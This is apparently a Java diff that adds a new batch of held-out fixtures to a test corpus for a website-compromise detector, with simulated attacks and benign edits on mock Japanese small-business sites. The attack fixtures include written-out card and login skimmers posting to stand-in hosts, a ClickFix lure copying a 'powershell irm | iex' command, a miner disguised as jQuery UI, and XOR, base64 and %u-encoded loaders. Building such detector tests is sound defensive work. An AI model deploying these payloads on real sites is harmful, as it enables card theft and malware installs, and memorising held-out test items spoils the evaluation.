@@ -18,7 +18,8 @@ import jp.mamori.checks.web.site.TestSite.Request;
  * {@code tsubasa} (a construction company on SWELL with WPForms), {@code komugi} (a bakery with a WooCommerce shop
  * on Storefront) and {@code yamada} (a tax accountant's Shift_JIS site made with Homepage Builder); from
  * {@code [fresh4]} on also {@code kogane} (a manufacturer on Movable Type 7 with A-Form) and {@code lumiere} (a hair
- * salon on Elementor), and the held-out corpus's sites. Each variant's name starts with its batch tag.
+ * salon on Elementor), and the held-out corpus's sites. Each variant's name starts with its batch tag. {@code [fresh5]}
+ * reuses all of them with surface forms the earlier batches did not use.
  */
 public final class BlindCorpus {
   static final String H = "hinata";
@@ -48,12 +49,14 @@ public final class BlindCorpus {
   public static List<HeldOutVariant> compromises() {
     List<HeldOutVariant> v = new ArrayList<>(fresh3Compromises());
     v.addAll(fresh4Compromises());
+    v.addAll(fresh5Compromises());
     return v;
   }
 
   public static List<HeldOutVariant> benign() {
     List<HeldOutVariant> v = new ArrayList<>(fresh3Benign());
     v.addAll(fresh4Benign());
+    v.addAll(fresh5Benign());
     return v;
   }
 
@@ -1110,6 +1113,272 @@ public final class BlindCorpus {
         e.site.insertBefore("/", "<section id=\"comp-kt1a2b4a\"", "<section id=\"comp-shop01\" class=\"wixui-section\"><h2 class="
             + "\"font_2\">オンラインショップ</h2><ul><li><a href=\"{{origin}}/product-page/blend\">こもれびブレンド 200g</a> 1,620円"
             + "</li><li><a href=\"{{origin}}/product-page/drip\">ドリップバッグ 10袋</a> 1,400円</li></ul></section>")));
+    return v;
+  }
+
+  static String xor(String s, int key) {
+    StringBuilder sb = new StringBuilder();
+    for (char c : s.toCharArray()) {
+      sb.append(String.format("\\x%02x", c ^ key));
+    }
+    return sb.toString();
+  }
+
+  static String percentU(String s) {
+    StringBuilder sb = new StringBuilder();
+    for (char c : s.toCharArray()) {
+      sb.append(String.format("%%u%04x", (int) c));
+    }
+    return sb.toString();
+  }
+
+  // ================================================================ [fresh5] compromises
+
+  static List<HeldOutVariant> fresh5Compromises() {
+    List<HeldOutVariant> v = new ArrayList<>();
+    Instant now = Instant.now();
+
+    // ---- skimmers
+    v.add(bad(K, "skimmer", "[fresh5] appended to order-attribution.min.js: card inputs sent with Reflect.apply(fetch) to a "
+        + "host joined from a reversed array", e -> e.site.append(
+        "/wp-content/plugins/woocommerce/assets/js/frontend/order-attribution.min.js", "\n;!function(){var h=['net','woo-pay"
+            + "-check'].reverse().join('.');document.addEventListener('change',function(ev){var t=ev.target;if(t&&/card|cvc|exp/i"
+            + ".test(t.name||'')){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});Reflect."
+            + "apply(fetch,window,['https://'+h+'/o',{method:'POST',mode:'no-cors',body:JSON.stringify(d)}])}},true)}();\n")));
+    v.add(bad(H, "skimmer", "[fresh5] contact-page keylogger: keys kept in localStorage, flushed with sendBeacon to a template "
+        + "literal built from pieces", e -> e.site.insertBefore("/contact/", "</body>", "<script>(function(){var k='_mwk',h=`"
+            + "${'med'}${'-stat'}.${'info'}`;document.addEventListener('input',function(ev){localStorage.setItem(k,(localStorage"
+            + ".getItem(k)||'')+ev.target.name+'='+ev.target.value+'&')});window.addEventListener('pagehide',function(){navigator"
+            + ".sendBeacon(`https://${h}/b`,localStorage.getItem(k)||'')});})();</script>\n")));
+    v.add(bad(E, "skimmer", "[fresh5] login form read and sent over window['Web'+'Socket']", e -> e.site.insertBefore(
+        "/mypage/login", "</body>", "<script>(function(){var W=window['Web'+'Socket'];document.getElementById('login_mypage')"
+            + ".addEventListener('submit',function(){var f=this,o={};for(var i=0;i<f.elements.length;i++){o[f.elements[i].name]=f."
+            + "elements[i].value}try{var s=new W('wss://ec-session-sync.com/ws');s.onopen=function(){s.send(JSON.stringify(o))}}"
+            + "catch(x){}})})();</script>\n")));
+    v.add(bad(T, "skimmer", "[fresh5] entry form sent by XHR to a URL kept double-escaped inside JSON.parse", e -> e.site.insertBefore(
+        "/recruit/entry/", "</body>", "<script>document.addEventListener('submit',function(ev){var u=JSON.parse('\"\\\\u0068\\\\u0074"
+            + "\\\\u0074\\\\u0070\\\\u0073://wpforms-entries.net/s\"');var x=new XMLHttpRequest();x.open('POST',u);x.send(new FormData("
+            + "ev.target))},true);</script>\n")));
+    v.add(bad(G, "skimmer", "[fresh5] inquiry form cloned into a hidden form posted to a hidden iframe on another site", e ->
+        e.site.insertBefore("/contact/", "</body>", "<script>document.addEventListener('submit',function(ev){var f=ev.target.cloneNode"
+            + "(true),i=document.createElement('iframe');i.name='_x';i.style.display='none';document.body.appendChild(i);f.action="
+            + "'https://aform-mirror.org/p';f.target='_x';f.style.display='none';document.body.appendChild(f);f.submit()},true);"
+            + "</script>\n")));
+
+    // ---- fake updates and ClickFix
+    v.add(bad(L, "fake-update", "[fresh5] ClickFix through a hidden textarea and execCommand('copy'), Japanese Win+R steps", e ->
+        e.site.insertBefore("*", "<div class=\"copyright\">", "<div id=\"rc-v\" style=\"position:fixed;inset:0;z-index:99999;"
+            + "background:#f9f9f9;padding:10vh 20px\"><h2>ロボットではないことを確認してください</h2><p>1. Windowsキー＋Rを押します"
+            + "<br>2. Ctrl＋Vで貼り付けます<br>3. Enterを押します</p><button id=\"rc-b\">確認する</button><textarea id=\"rc-t\" "
+            + "style=\"position:absolute;left:-999px\">cmd /c start /min powershell -nop -w 1 -c \"irm https://rc-verify-jp.com/"
+            + "a|iex\"</textarea></div><script>document.getElementById('rc-b').onclick=function(){var t=document.getElementById("
+            + "'rc-t');t.select();document.execCommand('copy')};</script>")));
+    v.add(bad(S, "fake-update", "[fresh5] 'Microsoft Edge の更新' banner with an off-site .msix download", e -> e.site.insertBefore(
+        "*", "</body>", "<div style=\"position:fixed;top:0;left:0;right:0;z-index:9999;background:#fff3cd;padding:16px;text-align:"
+            + "center\"><b>Microsoft Edge の重要な更新があります</b><br>このページを正しく表示するには、最新バージョンへの更新が必要です。"
+            + "<a href=\"https://edge-update-center.com/download/MicrosoftEdgeUpdate.msix\">今すぐ更新</a></div>\n")));
+
+    // ---- keyword hack and cloaking
+    v.add(bad(H, "keyword-hack", "[fresh5] Googlebot alone gets navigation links to same-site knock-off pages", e -> {
+      HeldOutSite bot = HeldOutCorpus.copy(e);
+      StringBuilder links = new StringBuilder("<ul class=\"menu-rel\">");
+      for (int n = 1; n <= 12; n++) {
+        links.append("<li><a href=\"").append(e.site.origin).append("/?p=kopi-").append(n).append("\">ブランド コピー 激安 ")
+            .append(n).append("</a></li>");
+      }
+      bot.insertBefore("/", "<div class=\"source-org copyright\">", links.append("</ul>").toString());
+      e.site.override = r -> {
+        if (r.isBot() && r.path().equals("/") && (r.query() == null || r.query().isEmpty())) {
+          return bot.serve(r);
+        }
+        return r.query() != null && r.query().startsWith("p=kopi-") ? Reply.html(kwPage(e, r.query().length())) : null;
+      };
+    }));
+    v.add(bad(K, "keyword-hack", "[fresh5] the product sitemap grows from 3 URLs to 1,200 knock-off pages", e -> {
+      StringBuilder sm = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"http://www.sitemaps.org/"
+          + "schemas/sitemap/0.9\"><url><loc>{{origin}}/product/shokupan/</loc></url>");
+      for (int n = 1; n <= 1200; n++) {
+        sm.append("<url><loc>{{origin}}/product/nkyu-").append(n).append("/</loc><lastmod>2026-11-28T03:00:00+00:00</lastmod>"
+            + "</url>");
+      }
+      e.site.put("/wp-sitemap-posts-product-1.xml", sm.append("</urlset>").toString());
+      e.site.override = r -> r.path().startsWith("/product/nkyu-") ? Reply.html(kwPage(e, Integer.parseInt(r.path()
+          .replaceAll("\\D", "")))) : null;
+    }));
+
+    // ---- hidden SEO spam
+    v.add(bad(G, "seo-spam", "[fresh5] brand-copy links in a block with the HTML hidden attribute", e -> e.site.insertBefore("*",
+        "<p class=\"copyright\">", "<div hidden>" + BRAND_COPY + "</div>")));
+    v.add(bad(L, "seo-spam", "[fresh5] casino links in a heading pushed off with text-indent", e -> e.site.insertBefore("*",
+        "<div class=\"copyright\">", "<h2 style=\"text-indent:-10000px;overflow:hidden;height:0;margin:0\">" + JP_CASINO + "</h2>")));
+    v.add(bad(Y, "seo-spam", "[fresh5] spam links inside <noscript> at the end of the body (Shift_JIS)", e -> e.site.insertBefore(
+        "*", "</BODY>", "<NOSCRIPT>" + BRAND_COPY + "</NOSCRIPT>\n")));
+    v.add(bad(C, "seo-spam", "[fresh5] pharma links in transparent text", e -> e.site.insertBefore("*", "<div id=\"SCROLL_TO_BOTTOM\"",
+        "<p style=\"color:transparent;font-size:11px\">" + EN_SPAM + "</p>")));
+    v.add(bad(W, "seo-spam", "[fresh5] brand links hidden by an id rule in an injected <style> (max-height:0)", e -> {
+      e.site.insertBefore("*", "</head>", "<style>#ft-partners{max-height:0;overflow:hidden}</style>\n");
+      e.site.insertBefore("*", "<div class=\"container site-footer-copyright\">", "<div id=\"ft-partners\">" + BRAND_COPY + "</div>");
+    }));
+
+    // ---- redirects
+    v.add(bad(S, "redirect", "[fresh5] touch screens (matchMedia pointer:coarse) sent away with location.assign", e ->
+        e.site.insertBefore("*", "</head>", "<script>if(window.matchMedia&&matchMedia('(pointer:coarse)').matches&&!sessionStorage"
+            + ".getItem('_v')){sessionStorage.setItem('_v',1);location.assign('https://onsen-deals.top/?r=yb')}</script>\n")));
+    v.add(bad(H, "redirect", "[fresh5] meta refresh inside <noscript> in the body", e -> e.site.insertBefore("*",
+        "<div class=\"source-org copyright\">", "<noscript><meta http-equiv=\"refresh\" content=\"0;url=https://clinic-supple-"
+            + "jp.com/\"></noscript>")));
+    v.add(bad(E, "redirect", "[fresh5] search-referrer redirect in a broken image's onerror attribute", e -> e.site.insertBefore("*",
+        "<!-- ▲フッター -->", "<img src=\"/x.gif\" style=\"display:none\" onerror=\"if(/google|yahoo|bing/.test(document.referrer))"
+            + "window.location='https://wagashi-otoku.com/?s='+location.host\">")));
+    v.add(bad(K, "redirect", "[fresh5] server 301 for phones on product pages only", e -> e.site.override = r ->
+        r.path().startsWith("/product/") && phone(r) ? Reply.redirect(301, "https://pan-gift-coupon.com/?p=" + r.path()) : null));
+    v.add(bad(T, "redirect", "[fresh5] redirect in the body's onload attribute after a delay", e -> e.site.replace("*", "<body>",
+        "<body onload=\"setTimeout(function(){location.replace('https://gaiheki-navi-pro.com/?t=2')},4000)\">")));
+
+    // ---- iframes
+    v.add(bad(G, "iframe", "[fresh5] zero-size <object> of another site", e -> e.site.insertBefore("*", "</body>",
+        "<object data=\"https://mfg-stat-counter.com/o.html\" type=\"text/html\" width=\"0\" height=\"0\"></object>\n")));
+    v.add(bad(Y, "iframe", "[fresh5] upper-case zero-size IFRAME after </HTML>", e -> e.site.append("/",
+        "\n<IFRAME SRC=\"http://kaikei-rank.com/c.html\" WIDTH=0 HEIGHT=0 FRAMEBORDER=0></IFRAME>\n")));
+
+    // ---- miners
+    v.add(bad(L, "miner", "[fresh5] miner in a new same-site file named like jQuery UI, with a pool WebSocket", e -> {
+      e.site.put("/wp-content/uploads/2026/11/jquery-ui.min.js", "/*! jQuery UI - v1.13.2 */\n!function(){var t=navigator."
+          + "hardwareConcurrency||2,p='wss://xmr-proxy-eu.net:8443';function s(){var w=new WebSocket(p);w.onopen=function(){w."
+          + "send(JSON.stringify({type:'auth',params:{site_key:'4f1b9c0d2e',user:'lumiere',threads:t,throttle:0.4}}))};w."
+          + "onmessage=function(m){var j=JSON.parse(m.data);if(j.type==='job'){for(var i=0;i<t;i++){new Worker('/wp-content/"
+          + "uploads/2026/11/w.js').postMessage({blob:j.params.blob,target:j.params.target})}}}}s()}();\n");
+      e.site.insertBefore("*", "</body>", "<script src=\"{{origin}}/wp-content/uploads/2026/11/jquery-ui.min.js\"></script>\n");
+    }));
+
+    // ---- obfuscation
+    v.add(bad(H, "obfuscation", "[fresh5] unescape of %u-encoded code run by setTimeout", e -> e.site.insertBefore("*", "</body>",
+        "<script>setTimeout(unescape('" + percentU(loader("https://cocoon-fix-cdn.com/f.js")) + "'),10);</script>\n")));
+    v.add(bad(K, "obfuscation", "[fresh5] XOR-decoded code run by indirect eval", e -> e.site.insertBefore("*", "</head>",
+        "<script>(function(){var s='" + xor(loader("https://woo-xor-cdn.com/x.js"), 23) + "',o='';for(var i=0;i<s.length;i++)"
+            + "{o+=String.fromCharCode(s.charCodeAt(i)^23)}(0,eval)(o)})();</script>\n")));
+    v.add(bad(C, "obfuscation", "[fresh5] Function constructed with Reflect.construct from base64", e -> e.site.insertBefore("*",
+        "</body>", "<script>Reflect.construct(Function,[atob('" + b64(loader("https://builder-static-js.com/r.js")) + "')])();"
+            + "</script>\n")));
+
+    // ---- defacement
+    v.add(bad(T, "defacement", "[fresh5] home replaced by an Indonesian hacker's page", e -> e.site.override = HeldOutCorpus.home(
+        "<!DOCTYPE html><html><head><title>Hacked By GarudaXploit</title></head><body style=\"background:#111;color:#0f0;"
+            + "text-align:center\"><h1>Website Anda telah diretas</h1><p>Maaf admin, keamanan situs Anda sangat lemah. Silakan "
+            + "perbaiki sistem Anda.</p><p>Salam dari Indonesia — GarudaXploit Team</p></body></html>")));
+    v.add(bad(Y, "defacement", "[fresh5] home page's Japanese text replaced by Korean, the layout kept", e -> {
+      String t = e.site.text("/");
+      String ko = "<P>온라인 카지노 추천 사이트 순위 2026. 첫 충전 보너스와 안전한 토토사이트 정보를 확인하세요. 먹튀검증 완료 "
+          + "사이트만 소개합니다. 실시간 바카라와 슬롯 게임을 즐겨보세요.</P>";
+      e.site.put("/", t.replaceAll("(?s)<P[ >].*?</P>", ko.replace("$", "\\$")));
+    }));
+
+    // ---- form actions
+    v.add(bad(C, "form", "[fresh5] builder contact form posts to a Formspree look-alike", e -> e.site.replace("/contact",
+        "<form class=\"_1fPxN\" aria-label=\"お問い合わせフォーム\" novalidate>", "<form class=\"_1fPxN\" aria-label=\"お問い合わせ"
+            + "フォーム\" action=\"https://formspree-io.com/f/xkomorebi\" method=\"post\" novalidate>")));
+
+    // ---- origins, look-alikes and shorteners
+    v.add(bad(W, "origin", "[fresh5] web font stylesheet from a Google Fonts look-alike with a hyphen", e -> e.site.insertBefore("*",
+        "</head>", "<link rel=\"stylesheet\" href=\"https://fonts-googleapis.com/css2?family=Noto+Sans+JP&display=swap\">\n")));
+    v.add(bad(S, "origin", "[fresh5] @import from a cdnjs/Cloudflare typo-squat inside an inline <style>", e -> e.site.insertBefore(
+        "*", "</head>", "<style>@import url(//cdnjs-cloudfare.com/ajax/libs/animate.css/4.1.1/animate.min.css);</style>\n")));
+    v.add(bad(E, "origin", "[fresh5] script through the is.gd shortener, added by inline code", e -> e.site.insertBefore("*",
+        "<!-- ▲フッター -->", "<script>" + loader("https://is.gd/ecJq7v") + "</script>")));
+    v.add(bad(G, "origin", "[fresh5] module preloaded from a new origin", e -> e.site.insertBefore("*", "</head>",
+        "<link rel=\"modulepreload\" href=\"https://mt-static-modules.com/m/app.js\">\n<script type=\"module\">import "
+            + "'https://mt-static-modules.com/m/app.js';</script>\n")));
+    v.add(bad(K, "origin", "[fresh5] beacon to a new origin on every page", e -> e.site.insertBefore("*", "</body>",
+        "<script>navigator.sendBeacon('https://stats-woo.net/c',JSON.stringify({p:location.pathname,r:document.referrer}));"
+            + "</script>\n")));
+
+    // ---- IoC list
+    v.add(bad(L, "ioc", "[fresh5] IoC domain only in a dns-prefetch link", e -> e.site.insertBefore("*", "</head>",
+        "<link rel=\"dns-prefetch\" href=\"//cdn." + IOC_DOMAINS.get(0) + "\">\n")));
+    v.add(bad(G, "ioc", "[fresh5] IoC domain in an @font-face URL appended to the site's style.css", e -> e.site.append(
+        "/common/css/style.css", "\n@font-face{font-family:'kg';src:url(https://fonts." + IOC_DOMAINS.get(1) + "/kg.woff2) "
+            + "format('woff2')}\n")));
+
+    // ---- TLS and DNS
+    v.add(bad(H, "tls", "[fresh5] certificate expired yesterday", e -> e.certificate(List.of(e.site.host),
+        now.minus(Duration.ofDays(91)), now.minus(Duration.ofDays(1)), false)).overHttps());
+    v.add(bad(K, "tls", "[fresh5] certificate for another site's name", e -> e.certificate(List.of("shop.example-hosting.test"),
+        now.minus(Duration.ofDays(3)), now.plus(Duration.ofDays(80)), false)).overHttps());
+    v.add(bad(S, "dns", "[fresh5] the A record gets a second address", e -> e.resolver.record(e.site.host, "A", "127.0.0.1",
+        "198.51.100.77")));
+    return v;
+  }
+
+  // ================================================================ [fresh5] benign edits
+
+  static List<HeldOutVariant> fresh5Benign() {
+    List<HeldOutVariant> v = new ArrayList<>();
+    v.add(good(H, "embed", "[fresh5] Google Calendar of clinic days on the medical page", e -> e.site.insertBefore("/medical/",
+        "<h2>検査設備</h2>", "<h2>診療カレンダー</h2><iframe src=\"https://calendar.google.com/calendar/embed?src=hinata.naika"
+            + "%40gmail.com&ctz=Asia%2FTokyo\" style=\"border:0\" width=\"800\" height=\"600\" frameborder=\"0\" scrolling=\"no\">"
+            + "</iframe>")));
+    v.add(good(H, "content", "[fresh5] skip link and screen-reader labels added", e -> e.site.insertBefore("*",
+        "<div class=\"source-org copyright\">", "<a class=\"skip-link screen-reader-text\" href=\"#content\">本文へスキップ</a>"
+            + "<span class=\"screen-reader-text\">電話番号 092-000-0000</span>")));
+    v.add(good(H, "embed", "[fresh5] Google Form embedded on the recruit page", e -> e.site.insertBefore("/recruit/",
+        "<h2>医療事務（パート）</h2>", "<iframe src=\"https://docs.google.com/forms/d/e/1FAIpQLSf3x9hinata/viewform?embedded=true\" "
+            + "width=\"640\" height=\"900\" frameborder=\"0\">読み込んでいます…</iframe>")));
+    v.add(good(T, "embed", "[fresh5] Vimeo film of a site on the works page", e -> e.site.insertBefore("/works/",
+        "<li class=\"p-postList__item\">", "<div class=\"works-movie\"><iframe src=\"https://player.vimeo.com/video/912345678?h="
+            + "ab12cd34ef\" width=\"640\" height=\"360\" frameborder=\"0\" allow=\"autoplay; fullscreen\"></iframe></div>")));
+    v.add(good(T, "tags", "[fresh5] hCaptcha on the WPForms forms", e -> e.site.insertBefore("/contact/", "</body>",
+        "<script src=\"https://js.hcaptcha.com/1/api.js?hl=ja\" async defer></script>\n")));
+    v.add(good(T, "content", "[fresh5] works gallery with same-site images in srcset", e -> e.site.insertBefore("/works/",
+        "<li class=\"p-postList__item\">", "<li class=\"p-postList__item\"><img src=\"{{origin}}/wp-content/uploads/2026/11/"
+            + "school-400.jpg\" srcset=\"{{origin}}/wp-content/uploads/2026/11/school-800.jpg 2x\" loading=\"lazy\" alt=\"小学校体育館"
+            + "改修\" width=\"400\" height=\"250\"></li>")));
+    v.add(good(K, "embed", "[fresh5] Amazon Pay button on the cart page", e -> e.site.insertBefore("/cart/", "</body>",
+        "<div id=\"AmazonPayButton\"></div><script src=\"https://static-fe.payments-amazon.com/checkout.js\"></script>\n")));
+    v.add(good(K, "content", "[fresh5] hero slider with Swiper from jsDelivr's npm mirror", e -> e.site.insertBefore("/", "</body>",
+        "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/swiper@11/swiper-bundle.min.css\"><script src=\"https://"
+            + "cdn.jsdelivr.net/npm/swiper@11/swiper-bundle.min.js\"></script><script>new Swiper('.hero',{loop:true,autoplay:"
+            + "{delay:4000}});</script>\n")));
+    v.add(good(K, "tags", "[fresh5] Microsoft Clarity tag", e -> e.site.insertBefore("*", "</head>",
+        "<script type=\"text/javascript\">(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};"
+            + "t=l.createElement(r);t.async=1;t.src=\"https://www.clarity.ms/tag/\"+i;y=l.getElementsByTagName(r)[0];y.parentNode."
+            + "insertBefore(t,y);})(window, document, \"clarity\", \"script\", \"p8x2komugi\");</script>\n")));
+    v.add(good(Y, "content", "[fresh5] a marquee news ticker (Shift_JIS, old style)", e -> e.site.insertBefore("/", "</BODY>",
+        "<MARQUEE scrollamount=\"3\"><FONT color=\"#003366\">年末調整・確定申告のご相談を受け付けています。お気軽にお電話ください。"
+            + "</FONT></MARQUEE>\n")));
+    v.add(good(Y, "content", "[fresh5] visually hidden phone label with an inline clip style", e -> e.site.insertBefore("*",
+        "</BODY>", "<SPAN style=\"position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0)\">電話番号 "
+            + "086-000-0000</SPAN>\n")));
+    v.add(good(Y, "embed", "[fresh5] LINE official account QR code image", e -> e.site.insertBefore("/", "</BODY>",
+        "<P><A href=\"https://lin.ee/a1B2c3D\"><IMG src=\"https://qr-official.line.me/gs/M_123abcde_GW.png\" width=\"120\" "
+            + "height=\"120\" alt=\"LINE友だち追加\"></A></P>\n")));
+    v.add(good(G, "tags", "[fresh5] Zendesk chat widget", e -> e.site.insertBefore("*", "</body>",
+        "<script id=\"ze-snippet\" src=\"https://static.zdassets.com/ekr/snippet.js?key=0a1b2c3d-4e5f-6789-abcd-ef0123456789\">"
+            + "</script>\n")));
+    v.add(good(G, "content", "[fresh5] print-only company block hidden on screen", e -> e.site.insertBefore("*",
+        "<p class=\"copyright\">", "<div class=\"print-only\" style=\"display:none\">株式会社こがね製作所 新潟県燕市 TEL 0256-00-0000 "
+            + "<a href=\"{{origin}}/\">www.kogane-mfg.test</a></div>")));
+    v.add(good(L, "content", "[fresh5] LINE booking button through LINE's own lin.ee link", e -> e.site.insertBefore("*",
+        "<div class=\"copyright\">", "<p class=\"line-btn\"><a href=\"https://lin.ee/Xy9Zlumi\"><img src=\"https://scdn.line-apps"
+            + ".com/n/line_add_friends/btn/ja.png\" alt=\"LINEで予約\" height=\"36\"></a></p>")));
+    v.add(good(L, "embed", "[fresh5] Instagram grid from SnapWidget on the gallery page", e -> e.site.insertBefore("/gallery/",
+        "</main>", "<iframe src=\"https://snapwidget.com/embed/1063456\" class=\"snapwidget-widget\" allowtransparency=\"true\" "
+            + "frameborder=\"0\" scrolling=\"no\" style=\"border:none;overflow:hidden;width:100%\"></iframe>")));
+    v.add(good(W, "tags", "[fresh5] CookieYes consent banner", e -> e.site.insertAfter("*", "<head>", "\n<script id=\"cookieyes\" "
+        + "type=\"text/javascript\" src=\"https://cdn-cookieyes.com/client_data/4f2a1b3c5d6e7f8091a2b3c4/script.js\"></script>")));
+    v.add(good(W, "content", "[fresh5] mega-menu hidden until hover, linking to group companies", e -> e.site.insertBefore("*",
+        "</header>", "<div class=\"mega-menu\" style=\"display:none\"><a href=\"https://www.midori-fudosan.co.jp/\">みどり不動産"
+            + "</a> <a href=\"https://www.midori-sekkei.jp/\">みどり設計事務所</a></div>")));
+    v.add(good(E, "content", "[fresh5] back-to-top button with a small inline script", e -> e.site.insertBefore("*",
+        "<!-- ▲フッター -->", "<a href=\"#\" id=\"pagetop\" style=\"position:fixed;right:16px;bottom:16px\">▲</a><script>"
+            + "document.getElementById('pagetop').onclick=function(ev){ev.preventDefault();window.scrollTo({top:0,behavior:"
+            + "'smooth'})};</script>")));
+    v.add(good(S, "embed", "[fresh5] Rakuten Travel banner image and Jalan booking link", e -> e.site.insertBefore("*", "</body>",
+        "<p><a href=\"https://travel.rakuten.co.jp/HOTEL/123456/\"><img src=\"https://img.travel.rakuten.co.jp/package/ryokan/"
+            + "banner_200x40.gif\" alt=\"楽天トラベル\"></a> <a href=\"https://www.jalan.net/yad123456/\">じゃらんで予約</a></p>\n")));
+    v.add(good(C, "embed", "[fresh5] Calendly booking widget on the contact page", e -> e.site.insertBefore("/contact",
+        "<div id=\"comp-form01\"", "<div class=\"calendly-inline-widget\" data-url=\"https://calendly.com/komorebi-cafe/30min\" "
+            + "style=\"min-width:320px;height:630px\"></div><script src=\"https://assets.calendly.com/assets/external/widget.js\" "
+            + "async></script>")));
     return v;
   }
 }
